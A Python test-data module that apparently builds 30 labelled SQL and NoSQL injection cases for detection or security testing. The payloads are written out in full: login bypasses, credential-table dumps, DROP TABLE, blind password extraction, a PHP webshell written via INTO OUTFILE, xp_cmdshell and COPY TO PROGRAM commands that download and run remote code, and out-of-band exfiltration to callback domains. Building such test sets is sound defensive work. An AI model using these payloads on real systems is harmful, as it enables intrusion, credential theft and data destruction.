"""sql_injection: 30 attack cases (SQL dialects and NoSQL operator injection)."""
from common import Collector, dpct, jdump

FAMILY = "sql_injection"

P = "PayloadsAllTheThings SQL Injection"
PM = "PayloadsAllTheThings MySQL Injection"
PP = "PayloadsAllTheThings PostgreSQL Injection"
PS = "PayloadsAllTheThings MSSQL Injection"
PO = "PayloadsAllTheThings OracleSQL Injection"
PL = "PayloadsAllTheThings SQLite Injection"
PN = "PayloadsAllTheThings NoSQL Injection"


def cases():
    c = Collector()

    c.add("classic quote tautology with trailing comment", "OWASP WSTG Testing for SQL Injection", "users.lookup",
          {"username": "admin' OR '1'='1' -- ", "fields": ["id", "email", "role"]})

    c.add("login bypass with OR 1=1 and MySQL hash comment", P, "auth.login",
          {"email": "' OR 1=1 LIMIT 1#", "password": "whatever", "remember_me": False})

    c.add("UNION SELECT reading the users table from a search box", P, "catalog.search",
          {"query": "headphones' UNION SELECT username, password_hash, email, NULL FROM users-- -",
           "page": 1, "per_page": 24})

    c.add("UNION ALL over information_schema.columns (MySQL)", PM, "catalog.get_category",
          {"category_id": "-7 UNION ALL SELECT table_schema,table_name,column_name,4 FROM "
                          "information_schema.columns WHERE table_schema=database()-- -",
           "include_children": True})

    c.add("stacked statement DROP TABLE (PostgreSQL)", PP, "reports.sales_by_region",
          {"region": "EMEA'; DROP TABLE invoices CASCADE; --", "quarter": "2024Q2", "currency": "EUR"})

    c.add("stacked sp_configure enabling xp_cmdshell then download (MSSQL)", PS, "crm.list_accounts",
          {"sort_by": "name; EXEC sp_configure 'show advanced options',1; RECONFIGURE; EXEC sp_configure "
                      "'xp_cmdshell',1; RECONFIGURE; EXEC master..xp_cmdshell 'powershell -c iwr "
                      "http://198.51.100.18/b.exe -o C:\\Windows\\Temp\\b.exe'--",
           "direction": "asc", "page_size": 50})

    c.add("time-based blind IF/SLEEP with mixed-case keywords (MySQL)", PM, "orders.get",
          {"order_id": "10482' aNd iF(SuBsTrInG((sElEcT authentication_string FROM mysql.user WHERE "
                       "user='root' LiMiT 1),1,1)='*',SlEeP(5),0)-- -"})

    c.add("time-based blind pg_sleep inside ORDER BY CASE (PostgreSQL)", PP, "tickets.list",
          {"status": "open",
           "order": "(SELECT CASE WHEN (SELECT substr(passwd,1,1) FROM pg_shadow WHERE usename='postgres')='m' "
                    "THEN pg_sleep(5) ELSE pg_sleep(0) END)"})

    c.add("stacked WAITFOR DELAY conditional on SYSTEM_USER (MSSQL)", PS, "hr.employee_lookup",
          {"employee_no": "1001'; IF (SELECT SYSTEM_USER)='sa' WAITFOR DELAY '0:0:7'--", "include_terminated": False})

    c.add("blind DBMS_PIPE.RECEIVE_MESSAGE delay on sys.user$ (Oracle)", PO, "inventory.stock_level",
          {"sku": "AX-100' AND 1=(CASE WHEN (SELECT SUBSTR(password,1,1) FROM sys.user$ WHERE name='SYS')='A' "
                  "THEN DBMS_PIPE.RECEIVE_MESSAGE('x',8) ELSE 1 END)--",
           "warehouse": "DUB-2"})

    c.add("out-of-band UTL_HTTP.REQUEST exfiltration (Oracle)", PO, "billing.invoice_status",
          {"invoice_ref": "INV-2291' || UTL_HTTP.REQUEST('http://oob.x7k2q.oastify.com/'||(SELECT user||'_'||"
                          "(SELECT banner FROM v$version WHERE rownum=1) FROM dual)) || '"})

    c.add("UNION over sqlite_master to dump schema (SQLite)", PL, "notes.search",
          {"tag": "x' UNION SELECT name, sql, NULL FROM sqlite_master WHERE type='table'--", "limit": 25})

    c.add("heavy-query blind with RANDOMBLOB (SQLite)", PL, "app.settings_get",
          {"key": "theme' AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(500000000/2))))--", "scope": "user"})

    c.add("UNION ... INTO OUTFILE writing a PHP webshell (MySQL)", PM, "cms.get_page",
          {"page_id": "3 UNION SELECT '<?php system($_GET[\"c\"]); ?>',2,3 INTO OUTFILE "
                       "'/var/www/html/uploads/c.php'-- -", "preview": True})

    c.add("xp_dirtree UNC path DNS exfiltration (MSSQL)", PS, "assets.lookup",
          {"asset_tag": "LT-0042'; DECLARE @q varchar(200); SET @q='\\\\'+(SELECT TOP 1 name FROM sys.sql_logins)"
                        "+'.x7k2.oast.live\\a'; EXEC master..xp_dirtree @q;--"})

    c.add("COPY ... TO PROGRAM command execution (PostgreSQL)", PP, "metrics.series",
          {"metric": "cpu'; COPY (SELECT '') TO PROGRAM 'curl -s http://203.0.113.93/p.sh | sh';--",
           "window": "1h", "step": "60s"})

    c.add("inline comments as whitespace with case-mixed UNION SELECT", PM, "blog.posts",
          {"author_id": "2/**/UnIoN/**/SeLeCt/**/NULL,concat(user(),0x3a,@@version),NULL,NULL#", "status": "published"})

    c.add("MySQL versioned comments wrapping UNION ALL SELECT", PM, "forum.thread",
          {"thread_id": "-1 /*!50000UNION*/ /*!50000ALL*/ /*!50000SELECT*/ 1,group_concat(email,0x3a,password),3 "
                        "FROM members-- -"})

    c.add("percent-encoded UNION in a query-string parameter", "OWASP WSTG Testing for SQL Injection", "http.get",
          {"url": "https://shop.acme-retail.com/api/v2/products?id=1%27%20UNION%20SELECT%20card_number%2Ccvv%2C"
                  "expiry%20FROM%20payments--%20-",
           "headers": {"Accept": "application/json"}})

    c.add("double percent-encoded tautology through a proxy parameter", "OWASP WAF evasion / SecLists Fuzzing SQLi",
          "search.proxy",
          {"endpoint": "/v1/items", "q": dpct("' OR '1'='1'-- "), "page": 2})

    c.add("\\u0027-escaped quotes inside a JSON-encoded GraphQL variables string", P, "graphql.query",
          {"query": "query($f: String!){ customers(filter: $f){ id email phone } }",
           "variables": "{\"f\":\"x\\u0027 OR \\u00271\\u0027=\\u00271\"}",
           "endpoint": "https://api.internal-crm.io/graphql"})

    c.add("hex string literal avoids quotes in the WHERE clause (MySQL)", PM, "users.by_name",
          {"name": "x' UNION SELECT 1,password,3 FROM users WHERE username=0x61646d696e-- -"})

    c.add("boolean-based blind substring comparison", "OWASP WSTG Testing for SQL Injection", "accounts.exists",
          {"username": "admin' AND SUBSTRING((SELECT password FROM users WHERE username='admin'),1,1)>'m'-- "})

    c.add("error-based extractvalue leaking admin credentials (MySQL)", PM, "news.article",
          {"id": "5 AND extractvalue(1,concat(0x7e,(SELECT concat(username,0x3a,password) FROM admins LIMIT 1)))",
           "lang": "en"})

    c.add("error-based CAST of string_agg(pg_shadow) to int (PostgreSQL)", PP, "invoices.search",
          {"customer": "acme' AND 1=CAST((SELECT string_agg(usename||':'||passwd, ',') FROM pg_shadow) AS int)--",
           "from": "2024-01-01", "to": "2024-06-30"})

    c.add("MongoDB $ne operator login bypass", PN, "session.create",
          {"username": {"$ne": None}, "password": {"$ne": None}, "client": "web"})

    c.add("MongoDB $gt operator inside a JSON-string filter", PN, "accounts.signin",
          {"filter": jdump({"user": "admin", "pass": {"$gt": ""}}), "mfa": False})

    c.add("MongoDB $where JavaScript tautology with sleep", PN, "products.find",
          {"collection": "products",
           "filter": {"$where": "sleep(5000) || this.owner == 'admin' || '1' == '1'"}, "limit": 10})

    c.add("MongoDB $regex blind extraction of a password-reset token", PN, "users.reset_lookup",
          {"email": {"$regex": "^adm"}, "reset_token": {"$regex": "^7f"}})

    c.add("form-encoded [$ne] operator injection in a login POST", "HackTricks NoSQL injection", "http.post",
          {"url": "https://portal.acme-corp.com/login",
           "content_type": "application/x-www-form-urlencoded",
           "body": "username[$ne]=toto&password[$ne]=toto&submit=Login"})

    return c.items
